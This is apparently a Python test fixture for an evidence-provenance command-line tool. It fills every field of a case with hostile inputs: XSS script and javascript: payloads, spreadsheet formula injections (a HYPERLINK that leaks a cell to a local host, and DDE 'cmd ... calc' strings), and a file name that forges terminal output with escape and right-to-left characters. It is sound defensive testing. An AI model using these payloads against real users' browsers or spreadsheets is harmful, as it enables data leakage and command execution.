"""A case whose every user-supplied field carries an attack, built through the CLI."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from fixtures import media
from tests.conftest import invoke

# Each would change the page's title if a browser ever ran it.
SCRIPT = "<script>document.title='PWNED'</script>"
IMG = "<img src=x onerror=\"document.title='PWNED'\">"
JS_LINK = "[open the source](javascript:document.title='PWNED')"
REMOTE_IMG = "![pixel](http://127.0.0.1:9/track.png)"
AUTOLINK = "<javascript:document.title='PWNED'>"
STRIKE = "~~verified~~"
# Live spreadsheet formulas (OWASP's CSV injection examples).
HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"open")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
# A file name that would forge a line of `prov add` output and recolour and reverse the rest.
FORGED = "ok.jpg\nnew    ffffffffffff  image    forged.jpg\x1b[31m\u202egpj.exe"
# (No alert(): a dialog would hold a headless browser until its timeout.)
FILE_NAME = "<img src=x onerror=\"document.title='PWNED'\">[x](javascript:document.title=1).jpg"


@dataclass
class Hostile:
    db: Path
    photo: str  # the item with the hostile fields
    forged: str  # the item whose file name forges output lines
    photo_path: Path
    forged_path: Path


def build(folder: Path) -> Hostile:
    db = folder / "evidence.db"
    media_dir = folder / "media"
    media_dir.mkdir(parents=True)
    photo_path = media_dir / FILE_NAME
    photo_path.write_bytes(media.jpeg_with_exif(31, gps=media.SERGEEVKA, make=SCRIPT,
                                                model=REMOTE_IMG))
    forged_path = media_dir / FORGED
    forged_path.write_bytes(media.jpeg_with_exif(32))

    def prov(*args: str, by: str = IMG) -> str:
        return invoke(db, *args, by=by, check=True).stdout

    prov("init")
    # Created up front: prov refuses a new name close to a known one (they look alike).
    for name in (HYPERLINK, IMG, PLUS, AT, DDE):
        prov("actor", "add", name, "--note", SCRIPT)
    photo = _sha(prov("add", str(photo_path), "--json", "--case", HYPERLINK,
                      "--title", SCRIPT, "--note", f"{JS_LINK} {REMOTE_IMG} {AUTOLINK} {STRIKE}",
                      "--source-url", "javascript:document.title='PWNED'"))
    forged = _sha(prov("add", str(forged_path), "--json", "--title", FORGED, "--note", DDE))
    prov("custody", "add", photo, "--action", "published", "--from", HYPERLINK, "--to", IMG,
         "--at", "2024-10-17", "--url", "javascript:document.title='PWNED'",
         "--note", f"{SCRIPT} {DDE}")
    prov("custody", "add", photo, "--action", "shared", "--from", PLUS, "--to", AT,
         "--at", "2024-10-18", "--note", MINUS)
    claim = int(prov("geo", "claim", photo, "--coords", "43.3491, 133.3597",
                     "--place", f"{IMG} {JS_LINK}", "--by", DDE, "--method", "geolocated",
                     "--note", REMOTE_IMG).split()[1])
    prov("geo", "claim", photo, "--coords", "-33.8688, -70.1", "--place", MINUS,
         "--by", AT, "--method", "reported")
    prov("geo", "review", str(claim), "--status", "disputed", "--reason",
         f"{SCRIPT} {AUTOLINK} {HYPERLINK}")
    return Hostile(db, photo, forged, photo_path, forged_path)


def _sha(out: str) -> str:
    import json

    return str(json.loads(out)[0]["sha256"])
